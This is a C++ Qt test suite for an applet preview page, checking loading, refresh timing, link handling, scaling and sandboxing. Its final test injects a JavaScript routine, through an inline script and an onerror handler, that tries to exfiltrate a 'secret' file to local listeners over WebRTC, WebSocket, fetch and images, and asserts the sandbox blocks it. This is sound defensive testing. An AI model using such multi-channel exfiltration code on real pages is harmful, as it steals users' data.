#include <QComboBox>
#include <QLabel>
#include <QLineEdit>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTcpServer>
#include <QTest>
#include <QUdpSocket>
#include <QWindow>

#include "app/preview_page.h"
#include "app/preview_sandbox.h"
#include "tests/app/main_window_fixture.h"
#include "tests/app/web_test_support.h"

namespace glx::test {
namespace {

class PreviewTest : public MainWindowTest {
 protected:
  PreviewTest() {
    fx.dir.write(kPlayerFile, readFileBytes(GLX_TEST_PLAYER));
    first = writeGradientJpeg(pictures / "first.jpg", 80, 60, qRgb(255, 80, 40));
    second = writeGradientJpeg(pictures / "second.jpg", 40, 30, qRgb(40, 120, 255));
  }

  PreviewPage& page() { return *window->previewTab; }
  PlayerView& view() { return *page().playerView(); }

  // Shows the Preview page and waits for its page to load.
  void showPreview() {
    QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
    window->Tabs->setCurrentWidget(window->previewTab);
    ASSERT_NE(page().playerView(), nullptr);
    ASSERT_TRUE(loaded.wait(20000));
    EXPECT_TRUE(loaded.first().first().toBool());
  }

  QString scriptText(const std::string& script) { return runScript(view(), script).toString(); }

  // Waits until the canvas has drawn, and returns its pixels.
  QByteArray drawnCanvas() {
    QByteArray pixels;
    const bool drawn = QTest::qWaitFor([&] {
      pixels = canvasPixels(view());
      return !pixels.isEmpty() && pixels.count('\0') < pixels.size();
    }, 10000);
    EXPECT_TRUE(drawn);
    return pixels;
  }

  std::string first;
  std::string second;
};

TEST_F(PreviewTest, PlaysTheTestPageAndFollowsEdits) {
  start();
  addImages({first, second});
  showPreview();

  // The page is the test run's page with the player, in a folder of its own.
  const std::string pagePath = page().pagePath();
  EXPECT_EQ(pagePath.find(fx.required()), std::string::npos);
  EXPECT_EQ(pagePath.find(fx.temp()), std::string::npos);
  const std::string text = readFileBytes(pagePath);
  // One head: its character set, then the policy that lets only the
  // player, by its nonce, run.
  const size_t nonceAt = text.find("script-src 'nonce-");
  ASSERT_NE(nonceAt, std::string::npos) << text;
  const std::string nonce = text.substr(nonceAt + 18, 32);
  const std::string policy = previewPolicyHead(nonce);
  EXPECT_NE(text.find("<HTML>\r\n  <HEAD><META CHARSET=\"utf-8\">" + policy.substr(6) +
                      "\r\n  <BODY BGCOLOR=\"#000000\">\r\n    <P ALIGN=\"CENTER\">\r\n"
                      "      <APPLET CODE=\"fade.class\" WIDTH=80 HEIGHT=60>\r\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("<SCRIPT NONCE=\"" + nonce + "\" SRC=\"glimmerax-player.js\"></SCRIPT>"), std::string::npos);
  EXPECT_TRUE(fileExists(folderOf(pagePath) + "first.jpg"));
  EXPECT_TRUE(fileExists(folderOf(pagePath) + "second.jpg"));

  // It plays: two reads of the canvas differ.
  const QByteArray before = drawnCanvas();
  ASSERT_EQ(before.size(), 80 * 60 * 4);
  QByteArray later;
  EXPECT_TRUE(QTest::qWaitFor([&] { return (later = canvasPixels(view())) != before; }, 5000));

  // An edit: nothing at once, the page once the edits pause, well within
  // half a second of the last one.
  const int refreshes = page().controller().refreshCount();
  QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
  window->eLink->setText(QStringLiteral("next.html"));
  QTest::qWait(50);
  EXPECT_EQ(page().controller().refreshCount(), refreshes);
  QTest::qWait(PreviewController::kDebounceMs + PreviewController::kPollMs + 100);
  EXPECT_EQ(page().controller().refreshCount(), refreshes + 1);
  ASSERT_TRUE(loaded.wait(10000) || !loaded.isEmpty());
  EXPECT_NE(readFileBytes(page().pagePath()).find("<PARAM NAME=\"LINK\" VALUE=\"next.html| | |\">"),
            std::string::npos);

  // Reordering the images changes the applet's size on screen.
  loaded.clear();
  doc().imageNames = {"second.jpg", "first.jpg"};
  doc().imagePaths = {second, first};
  ASSERT_TRUE(loaded.wait(10000));
  EXPECT_EQ(drawnCanvas().size(), 40 * 30 * 4);

  // Nothing the user did showed a message box.
  EXPECT_TRUE(dialogs.messages.empty());
}

TEST_F(PreviewTest, ALinkClickSaysWhereItGoesAndKeepsThePreview) {
  struct Case {
    const char* frame;
    const char* shown;
  } cases[] = {{"", "The link goes to: pages/next.html"},
               {"_top", "The link goes to: pages/next.html"},
               {"_blank", "The link goes to: pages/next.html"}};
  start();
  addImages({first, second});
  window->eLink->setText(QStringLiteral("pages/next.html"));
  showPreview();
  for (const Case& c : cases) {
    QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
    window->eFrame->setEditText(QString::fromLatin1(c.frame));
    if (*c.frame) ASSERT_TRUE(loaded.wait(10000)) << c.frame;
    drawnCanvas();
    page().linkLabel()->clear();
    runScript(view(), "document.querySelector('canvas').click()");
    EXPECT_TRUE(QTest::qWaitFor([&] { return !page().linkLabel()->text().isEmpty(); }, 5000)) << c.frame;
    EXPECT_EQ(page().linkLabel()->text().toStdString(), c.shown) << c.frame;
    QTest::qWait(200);
    const QString location = scriptText("window.location.href");
    EXPECT_TRUE(location.endsWith(QStringLiteral("/Preview.html"))) << location.toStdString();
    EXPECT_FALSE(canvasPixels(view()).isEmpty()) << c.frame;
  }
}

TEST_F(PreviewTest, AFirstImageThatCannotBeShownIsSaidInThePage) {
  struct Case {
    std::string image;
    std::string message;
  } cases[] = {
      {pictures / "gone.jpg", "ERROR: I can not find the image \"gone.jpg\" The applet may not work properly."},
      {picture("broken.gif", "GIF89a"), ""},  // the decoder's own words
  };
  start();
  bool shown = false;
  for (const Case& c : cases) {
    doc().imageNames = {bareFileName(c.image), "second.jpg"};
    doc().imagePaths = {c.image, second};
    if (!shown) {
      showPreview();
      shown = true;
    } else {
      QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
      ASSERT_TRUE(loaded.wait(10000));
    }
    const QString message = scriptText("(document.getElementById('message')||{}).textContent||''");
    if (c.message.empty())
      EXPECT_FALSE(message.isEmpty()) << c.image;
    else
      EXPECT_EQ(message.toStdString(), c.message);
    EXPECT_EQ(scriptText("String(document.querySelectorAll('canvas').length)"), QStringLiteral("0"));
  }
  // No images at all: the test run's own words.
  QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
  doc().imageNames.clear();
  doc().imagePaths.clear();
  ASSERT_TRUE(loaded.wait(10000));
  EXPECT_TRUE(scriptText("document.getElementById('message').textContent").startsWith(QStringLiteral("This applet will not work")));
  EXPECT_TRUE(dialogs.messages.empty());
}

TEST_F(PreviewTest, NothingPlaysOrRebuildsWhileThePageIsHidden) {
  start();
  addImages({first, second});
  showPreview();
  drawnCanvas();
  EXPECT_TRUE(view().isPlaying());

  window->Tabs->setCurrentWidget(window->settingsTab);
  EXPECT_TRUE(QTest::qWaitFor([&] { return !view().isPlaying(); }, 2000));
  const int refreshes = page().controller().refreshCount();
  window->eLink->setText(QStringLiteral("later.html"));
  QTest::qWait(PreviewController::kDebounceMs + 3 * PreviewController::kPollMs);
  EXPECT_EQ(page().controller().refreshCount(), refreshes);

  // Shown again: rebuilt at once, and playing.
  QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
  window->Tabs->setCurrentWidget(window->previewTab);
  EXPECT_EQ(page().controller().refreshCount(), refreshes + 1);
  ASSERT_TRUE(loaded.wait(10000));
  EXPECT_TRUE(view().isPlaying());
  const QByteArray before = drawnCanvas();
  EXPECT_TRUE(QTest::qWaitFor([&] { return canvasPixels(view()) != before; }, 5000));
}

TEST_F(PreviewTest, NeverReachesTheNetwork) {
  QTcpServer server;
  ASSERT_TRUE(server.listen(QHostAddress::LocalHost, 0));
  const std::string url = "http://127.0.0.1:" + std::to_string(server.serverPort()) + "/x.gif";
  start();
  addImages({first, second});
  window->eLink->setText(QString::fromStdString(url));
  showPreview();
  drawnCanvas();
  runScript(view(), "fetch('" + url + "').catch(function(){});"
                    "var i=new Image();i.src='" + url + "?image';document.body.appendChild(i);"
                    "document.querySelector('canvas').click();");
  EXPECT_TRUE(QTest::qWaitFor([&] { return !page().linkLabel()->text().isEmpty(); }, 5000));
  EXPECT_EQ(page().linkLabel()->text().toStdString(), "The link goes to: " + url);
  QTest::qWait(500);
  EXPECT_FALSE(server.hasPendingConnections());
  // A local file outside the preview's folder is refused as well.
  const QString outside = QString::fromStdString(
      "fetch('" + QUrl::fromLocalFile(QString::fromStdString(first)).toString().toStdString() +
      "').then(function(){window.fetched='yes';},function(){window.fetched='no';});");
  runScript(view(), outside.toStdString());
  EXPECT_TRUE(QTest::qWaitFor([&] { return !scriptText("window.fetched||''").isEmpty(); }, 5000));
  EXPECT_EQ(scriptText("window.fetched"), QStringLiteral("no"));
}

// A large applet is shrunk to fit the screen whole, keeping its shape, and
// the page says so; one that fits is shown at its size without a word.
TEST_F(PreviewTest, ALargeAppletIsShrunkToFitAndSaysSo) {
  const std::string large = writeGradientJpeg(pictures / "large.jpg", 1200, 900, qRgb(200, 200, 40));
  start();
  addImages({large, second});
  showPreview();
  drawnCanvas();
  const PreviewScale scale = page().scale();
  ASSERT_LT(scale.percent, 100);
  EXPECT_GT(scale.percent, 25);
  EXPECT_EQ(page().scaleLabel()->text().toStdString(), "shown at " + std::to_string(scale.percent) + " %");
  // The page is drawn at that scale, and all of it is on screen: no scroll bars.
  const QSize screen = page().playerView()->widget()->size();
  const QStringList seen =
      scriptText("[Math.round(devicePixelRatio*100), Math.abs(innerWidth - document.documentElement.clientWidth) < 2,"
                 " Math.abs(innerHeight - document.documentElement.clientHeight) < 2,"
                 " Math.round(document.querySelector('canvas').getBoundingClientRect().width),"
                 " Math.round(document.querySelector('canvas').getBoundingClientRect().height)].join()")
          .split(QLatin1Char(','));
  ASSERT_EQ(seen.size(), 5) << seen.join(QLatin1Char(',')).toStdString();
  EXPECT_EQ(seen[0].toInt(), std::lround(scale.factor * 100));
  EXPECT_EQ(seen[1], QStringLiteral("true"));  // no room taken by a scroll bar, but for rounding
  EXPECT_EQ(seen[2], QStringLiteral("true"));
  EXPECT_EQ(seen[3].toInt(), 1200);  // the applet keeps its size in the page, and its shape
  EXPECT_EQ(seen[4].toInt(), 900);
  EXPECT_LE(1200 * scale.factor, screen.width());
  EXPECT_LE(900 * scale.factor, screen.height());

  // An applet that fits: its own size, nothing said.
  QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
  doc().imageNames = {"first.jpg", "second.jpg"};
  doc().imagePaths = {first, second};
  ASSERT_TRUE(loaded.wait(10000));
  EXPECT_EQ(page().scale(), PreviewScale());
  EXPECT_TRUE(page().scaleLabel()->text().isEmpty());
  EXPECT_EQ(scriptText("String(Math.round(devicePixelRatio*100))"), QStringLiteral("100"));
}

// The web view arriving with the first switch to the page does not make
// the window's native window again (the window would go black meanwhile).
TEST_F(PreviewTest, TheFirstSwitchKeepsTheWindowsNativeWindow) {
  start();
  addImages({first, second});
  ASSERT_TRUE(QTest::qWaitForWindowExposed(window.get()));
  QWindow* native = window->windowHandle();
  ASSERT_NE(native, nullptr);
  bool remade = false;
  QObject::connect(native, &QObject::destroyed, [&] { remade = true; });
  showPreview();
  drawnCanvas();
  EXPECT_FALSE(remade);
  EXPECT_EQ(window->windowHandle(), native);
}

// A project from a stranger: its second image is a "secret" the page's own
// scripts would read and send to listeners on this machine, by every way a
// page has (WebRTC's TURN over TCP and STUN over UDP, WebSocket, fetch, an
// image, a handler on an element).
TEST_F(PreviewTest, OnlyThePlayerRunsAndNothingConnects) {
  QTcpServer tcp;
  ASSERT_TRUE(tcp.listen(QHostAddress::LocalHost, 0));
  QUdpSocket udp;
  ASSERT_TRUE(udp.bind(QHostAddress::LocalHost, 0));
  const std::string tcpPort = std::to_string(tcp.serverPort());
  const std::string udpPort = std::to_string(udp.localPort());
  const std::string secret = pictures / "pw.gif";
  writeFileAtomic(secret, readFileBytes(std::string(GLX_PRINT_FIXTURES) + "sun.gif"));
  // Sends what it is given to both listeners in every way it can; each try
  // on its own, so one refusal does not stop the others.
  const std::string send =
      "function leak(text){var n=0;function t(f){try{f();n++;}catch(e){}}"
      "t(function(){var pc=new RTCPeerConnection({iceServers:["
      "{urls:'turn:127.0.0.1:" + tcpPort + "?transport=tcp',username:text.slice(0,64),credential:'x'},"
      "{urls:'turn:127.0.0.1:" + udpPort + "?transport=udp',username:text.slice(0,64),credential:'x'},"
      "{urls:'stun:127.0.0.1:" + udpPort + "'}],iceTransportPolicy:'all'});"
      "pc.createDataChannel('d');pc.createOffer().then(function(o){return pc.setLocalDescription(o);});});"
      "t(function(){new WebSocket('ws://127.0.0.1:" + tcpPort + "/'+encodeURIComponent(text.slice(0,64)));});"
      "t(function(){new WebTransport('https://127.0.0.1:" + udpPort + "/');});"
      "t(function(){fetch('http://127.0.0.1:" + tcpPort + "/'+encodeURIComponent(text.slice(0,64))).catch(function(){});});"
      "t(function(){new Image().src='http://127.0.0.1:" + tcpPort + "/i';});"
      "return n;}";
  const std::string alternative =
      "<P ID=\"alt\">Get a browser that plays applets.</P>\n"
      "<IMG SRC=\"nothing-here.gif\" ONERROR=\"window.handlerRan='yes';" + send + ";leak('onerror')\">\n"
      "<SCRIPT>window.inlineRan='yes';" + send +
      ";fetch('pw.gif').then(function(r){return r.text();}).then(leak,function(){leak('inline');});</SCRIPT>";

  start();
  addImages({first, secret});
  doc().alternativeHtml = alternative;
  showPreview();

  // The player plays.
  const QByteArray before = drawnCanvas();
  EXPECT_EQ(before.size(), 80 * 60 * 4);
  EXPECT_TRUE(QTest::qWaitFor([&] { return canvasPixels(view()) != before; }, 5000));
  // The markup is in the page as written; its script and its handler did
  // not run.
  const std::string text = readFileBytes(page().pagePath());
  EXPECT_NE(text.find("<P ID=\"alt\">Get a browser that plays applets.</P>"), std::string::npos);
  EXPECT_NE(text.find("<SCRIPT>window.inlineRan='yes';"), std::string::npos);
  EXPECT_EQ(scriptText("String(window.inlineRan)"), QStringLiteral("undefined"));
  EXPECT_EQ(scriptText("String(window.handlerRan)"), QStringLiteral("undefined"));

  // A script that got in anyway finds no way out: the interfaces that open
  // connections of their own are gone, in frames too, and the rest is
  // refused.
  EXPECT_EQ(scriptText("[typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof WebTransport,"
                       " typeof WebSocket].join()"),
            QStringLiteral("undefined,undefined,undefined,undefined"));
  runScript(view(), "var f=document.createElement('iframe');document.body.appendChild(f);var w=f.contentWindow;"
                    "var g=w.document.createElement('iframe');w.document.body.appendChild(g);var v=g.contentWindow;"
                    "window.framed=[typeof w.RTCPeerConnection,typeof w.WebSocket,typeof v.RTCPeerConnection].join();");
  EXPECT_EQ(scriptText("window.framed"), QStringLiteral("undefined,undefined,undefined"));
  runScript(view(), send + "window.tried=leak('from the embedder');");
  EXPECT_EQ(scriptText("String(window.tried)"), QStringLiteral("2"));  // fetch and the image, both refused

  QTest::qWait(1500);
  EXPECT_FALSE(tcp.hasPendingConnections());
  EXPECT_FALSE(udp.hasPendingDatagrams());
}

}  // namespace
}  // namespace glx::test
